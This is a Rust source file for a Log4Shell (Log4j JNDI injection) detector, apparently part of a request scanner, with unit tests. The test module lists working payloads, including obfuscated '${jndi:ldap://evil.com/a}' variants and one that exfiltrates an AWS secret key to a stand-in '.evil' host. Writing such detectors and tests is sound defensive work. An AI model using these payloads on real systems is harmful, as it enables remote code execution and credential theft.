//! Log4j lookup injection (Log4Shell): `${jndi:ldap://...}` and its obfuscations.
//!
//! Lookups are evaluated the way Log4j 2 does, innermost first, on a stack of buffers:
//! `${lower:j}` → `j`, `${upper:N}` → `N`, `${::-j}` and `${env:X:-j}` → the default after
//! `:-`, `${date:'j'}` → `j`; unknown lookups resolve to their default or to nothing. The
//! resolved text is checked for `jndi:` with a protocol; exfiltrating lookups (`${env:`,
//! `${sys:`, `${ctx:`, `${java:`...) are reported on their own with lower confidence.
//! Nesting depth is bounded and every character is copied at most depth times.

use crate::other_util::{best, gate, mk, step, views};
use crate::{Category, Detector, Gate, Hit, Input, Level};

const NAME: &str = "log4shell";
const MAX_DEPTH: usize = 16;

pub struct Log4ShellDetector;

pub fn detector() -> Box<dyn Detector> {
    Box::new(Log4ShellDetector)
}

/// The pre-filter declared to the engine ([`Gate`]): a lookup needs `${`, or `%` for its
/// percent-encoded forms.
const GATE: Gate = Gate { bytes: "$%", anchors: &[], words: &[], test: None, test_bytes: "", test_only: "" };

impl Detector for Log4ShellDetector {
    fn name(&self) -> &'static str {
        NAME
    }

    fn gate(&self) -> Option<Gate> {
        Some(GATE)
    }

    fn check(&self, input: &Input<'_>, level: Level) -> Option<Hit> {
        let mut h = None;
        for v in views(input.decoded).iter().filter(|v| !v.is_empty()) {
            if v.contains("${") || v.contains("$%7b") || v.contains("$%7B") {
                h = best(h, analyse(v));
            }
        }
        gate(h, level)
    }

    /// A lookup without an address (`${jndi:ldap} log4j explained`, `${jndi:` typed so far)
    /// reaches nothing: in free text it is words about Log4j. With an address, or a data
    /// lookup, it counts anywhere (a search is logged).
    fn in_free_text(&self, _input: &Input<'_>, hit: Hit, _level: Level) -> Option<Hit> {
        (hit.confidence > NO_ADDRESS).then_some(hit)
    }
}

/// Confidence of a JNDI lookup without an address (strict: a probe).
const NO_ADDRESS: u8 = 50;

const EXFIL: &[&str] =
    &["env", "sys", "ctx", "java", "main", "jvmrunargs", "bundle", "k8s", "docker", "spring", "web", "log4j", "map", "sd", "marker", "event"];
const JNDI_PROTOS: &[&str] = &["ldap", "ldaps", "rmi", "dns", "iiop", "corba", "nds", "nis", "http", "https"];

/// Resolve one lookup body (`prefix:rest` or `:-default`).
fn resolve(body: &str, exfil: &mut bool) -> String {
    // Default value: the text after the first `:-`.
    let (key, default) = match body.find(":-") {
        Some(p) => (&body[..p], Some(&body[p + 2..])),
        None => (body, None),
    };
    let (prefix, arg) = match key.find(':') {
        Some(p) => (key[..p].trim().to_ascii_lowercase(), &key[p + 1..]),
        None => (String::new(), key),
    };
    match prefix.as_str() {
        "lower" => return arg.to_lowercase(),
        "upper" => return arg.to_uppercase(),
        "date" => return arg.trim_matches('\'').to_string(),
        "jndi" => return format!("jndi:{arg}"),
        p if EXFIL.contains(&p) => *exfil = true,
        _ => {}
    }
    if let Some(d) = default {
        return d.to_string();
    }
    if prefix.is_empty() {
        return String::new();
    }
    format!("{{{prefix}}}")
}

fn analyse(s: &str) -> Option<Hit> {
    let b = s.as_bytes();
    let mut stack: Vec<String> = vec![String::new()];
    let mut exfil = false;
    let mut jndi_hit = false;
    // A JNDI lookup that names a protocol but no address (`${jndi:ldap}`): nothing to fetch.
    let mut jndi_named = false;
    let mut i = 0;
    while i < b.len() {
        step(1);
        if b[i] == b'$' && b.get(i + 1) == Some(&b'{') && stack.len() < MAX_DEPTH {
            stack.push(String::new());
            i += 2;
            continue;
        }
        if b[i] == b'}' && stack.len() > 1 {
            let body = stack.pop().unwrap_or_default();
            step(body.len());
            let r = resolve(&body, &mut exfil);
            let lr = r.to_ascii_lowercase();
            if let Some(rest) = lr.strip_prefix("jndi:") {
                let proto = rest.split(':').next().unwrap_or("");
                if jndi_address(rest) {
                    jndi_hit = true;
                } else if JNDI_PROTOS.contains(&proto.trim()) {
                    jndi_named = true;
                }
            }
            if let Some(top) = stack.last_mut() {
                top.push_str(&r);
            }
            i += 1;
            continue;
        }
        let ch_end = (i + 1..=b.len()).find(|&e| s.is_char_boundary(e)).unwrap_or(b.len());
        if let Some(top) = stack.last_mut() {
            if top.len() < 4096 {
                top.push_str(&s[i..ch_end]);
            }
        }
        i = ch_end;
    }
    // Unclosed `${jndi:` (truncated payloads) still name the lookup, when they hold an address.
    let (mut unclosed, mut unclosed_named) = (false, false);
    for t in stack.iter().skip(1) {
        if let Some(rest) = t.to_ascii_lowercase().strip_prefix("jndi:") {
            if jndi_address(rest) {
                unclosed = true;
            } else {
                unclosed_named = true;
            }
        }
    }
    if jndi_hit || unclosed {
        return Some(mk(NAME, Category::Log4Shell, if jndi_hit { 98 } else { 85 }, s, "Log4j JNDI lookup"));
    }
    if jndi_named || unclosed_named {
        // `${jndi:ldap} log4j explained`, `${jndi:` typed so far: a probe (strict).
        return Some(mk(NAME, Category::Log4Shell, NO_ADDRESS, s, "Log4j JNDI lookup without an address"));
    }
    if exfil {
        return Some(mk(NAME, Category::Log4Shell, 65, s, "Log4j data lookup (exfiltration)"));
    }
    None
}

/// Whether the text after `jndi:` names something to fetch: a protocol followed by `:` (its
/// address), or a `//` authority.
fn jndi_address(rest: &str) -> bool {
    match rest.split_once(':') {
        Some((proto, _)) if JNDI_PROTOS.contains(&proto.trim()) => true,
        _ => rest.contains("//"),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::other_util::take_steps;
    use crate::FieldKind;

    fn q(v: &str) -> u8 {
        detector().check(&Input { raw: v, decoded: v, field: FieldKind::Header }, Level::Strict).map_or(0, |h| h.confidence)
    }

    #[test]
    fn attacks() {
        for v in [
            "${jndi:ldap://evil.com/a}",
            "${${lower:j}ndi:${lower:l}dap://x/a}",
            "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://x/a}",
            "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//x/a}",
            "${jNdI:dns://x}",
            "${${upper:j}ndi:rmi://x/a}",
            "x ${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.evil/a} y",
            "${env:AWS_SECRET_ACCESS_KEY}",
            "${jndi:ldap://unterminated",
        ] {
            assert!(q(v) >= 60, "{v}: {}", q(v));
        }
    }

    #[test]
    fn a_lookup_without_an_address_is_a_probe() {
        for v in ["${jndi:ldap} log4j explained", "${jndi:ldap}", "${jndi:rmi", "${jndi:", "what is ${jndi:dns}"] {
            assert_eq!(q(v), 50, "{v}");
        }
        for v in ["${jndi:ldap:x}", "${jndi:ldap://a", "${jndi:${lower:l}dap://x/a}", "${jndi://x/a}"] {
            assert!(q(v) >= 85, "{v}: {}", q(v));
        }
    }

    #[test]
    fn benign() {
        for v in ["${name}", "price ${10}", "${user.home}/x", "use ${lower} case", "Mozilla/5.0 (X11)"] {
            assert!(q(v) < 60, "{v}: {}", q(v));
        }
    }

    #[test]
    fn linear() {
        for unit in ["${", "}", "${a:-", "${lower:j}", "x"] {
            let v = unit.repeat(1_000_000 / unit.len());
            take_steps();
            let _ = detector().check(&Input { raw: &v, decoded: &v, field: FieldKind::Header }, Level::Strict);
            assert!(take_steps() < 80 * v.len() as u64, "{unit}");
        }
    }
}
